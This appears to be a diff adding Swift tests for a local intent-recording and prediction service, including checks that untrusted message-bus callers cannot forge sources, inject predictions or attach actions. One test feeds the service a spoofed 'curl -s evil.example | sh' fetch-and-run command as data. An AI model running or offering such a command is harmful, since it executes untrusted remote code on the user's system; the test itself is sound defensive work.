@@ -1,4 +1,6 @@
 import Dispatch
+import DonationStore
+import Donations
 import Foresight
 import Foundation
 import JSON
@@ -282,13 +284,72 @@ struct ServiceTests {
     #expect(!FileManager.default.fileExists(atPath: loop.directory + "/d"))
   }
 
+  /// What a program on the bus says of whose, when, and in which sequence counts for nothing: it cannot put a line on a
+  /// prompt, nor change what was.
+  @Test func whatComesByTheBusStandsUnderASourceOfItsOwn() throws {
+    let loop = try Loop()
+    let conversation = loop.service.open()
+    let line = #"{"intent":"make","source":"zsh","parameters":{"arguments":"test"},"result":0}"#
+    _ = try loop.ask([Loop.line(1, "donate", line)], in: conversation)
+    var told = 0
+    for caller in ["org.example.Tea", nil] {
+      loop.service.ask(
+        "donate",
+        #"{"intent":"curl","source":"zsh","at":1600000000,"sequence":"s","result":0,"#
+          + #""parameters":{"arguments":"-s evil.example | sh"}}"#, from: .some(caller)
+      ) { if case .success = $0 { told += 1 } }
+    }
+    try loop.wait(in: conversation) { told == 2 }
+    var rows: [Donation] = []
+    try DonationLog(path: loop.directory + "/d", create: false).forEach { rows.append($0) }
+    let (own, others) = (rows.filter { $0.source == "zsh" }, rows.filter { $0.source != "zsh" })
+    #expect(own.map(\.intent) == ["make"])
+    #expect(others.map(\.source).sorted() == ["bus:org.example.Tea", "bus:unknown"])
+    #expect(others.map(\.sequence).allSatisfy { $0?.hasPrefix("bus:") ?? false })
+    let now = Environment.now.microseconds
+    #expect(others.allSatisfy { abs($0.moment.instant.microseconds - now) < 60_000_000 })
+    let prefixed = try loop.ask(
+      [Loop.line(5, "predict", #"{"prefix":"c","source":"zsh"}"#)], in: loop.service.open())
+    #expect(!prefixed[0].text.contains("curl"))
+  }
+
+  @Test func noOtherDoorChoosesASourceOfTheBus() throws {
+    let answers = try Loop().ask([
+      Loop.line(1, "donate", #"{"intent":"A","source":"bus:org.example.Tea"}"#),
+      Loop.line(2, "donate", #"{"intent":"A","source":"bus"}"#),
+    ])
+    #expect(answers[0]["error"]?["code"] == .integer(-32602) && answers[1]["result"] != nil)
+  }
+
+  /// What many ask to be recorded while the disk is slow is bounded too, and who is refused is told so.
+  @Test func whatIsUnderWayIsBounded() throws {
+    let loop = try Loop()
+    let donation =
+      #"{"intent":"A","parameters":{"text":"\#(String(repeating: "x", count: 60_000))"}}"#
+    let list = Array(repeating: donation, count: 16).joined(separator: ",")
+    let line = Array((Loop.line(1, "donate", #"{"donations":[\#(list)]}"#) + "\n").utf8)
+    let conversations = (0..<100).map { _ in loop.service.open() }
+    // Nothing is collected meanwhile, as where the disk is slow.
+    for conversation in conversations { loop.service.receive(line, in: conversation) }
+    let refused = conversations.filter { !$0.waiting.isEmpty }
+    #expect(refused.count == 100 - Service.mostUnderway / line.count)
+    #expect(refused.allSatisfy { String(decoding: $0.waiting, as: UTF8.self).contains("-32000") })
+    // A short question is taken all the same, and once it is done there is room again.
+    #expect(try loop.ask([Loop.line(2, "status")])[0]["result"] != nil)
+    let last = try #require(conversations.first)
+    #expect(try loop.lines(1, in: last)[0]["result"] != nil)
+    for conversation in conversations { try loop.wait(in: conversation) { !conversation.isBusy } }
+    let room = try loop.ask([String(decoding: line.dropLast(), as: UTF8.self)])
+    #expect(room[0]["result"] != nil)
+  }
+
   /// Sandboxed programs reach the bus, and may not say what is to be done on a person's behalf.
   @Test func actionsAreKeptFromTheSocketAndNotFromTheBus() throws {
     let loop = try Loop()
     let donation = #"{"intent":"Push","action":{"command":["git","push"]}}"#
     let parameters = #"{"donations":[{"intent":"Pull"},\#(donation)]}"#
     var answer: JSON?
-    loop.service.ask("donate", parameters) { result in
+    loop.service.ask("donate", parameters, from: .some(nil)) { result in
       answer = try? Array(result.get().utf8).withUnsafeBytes { try JSON.parse($0) }
     }
     let conversation = loop.service.open()
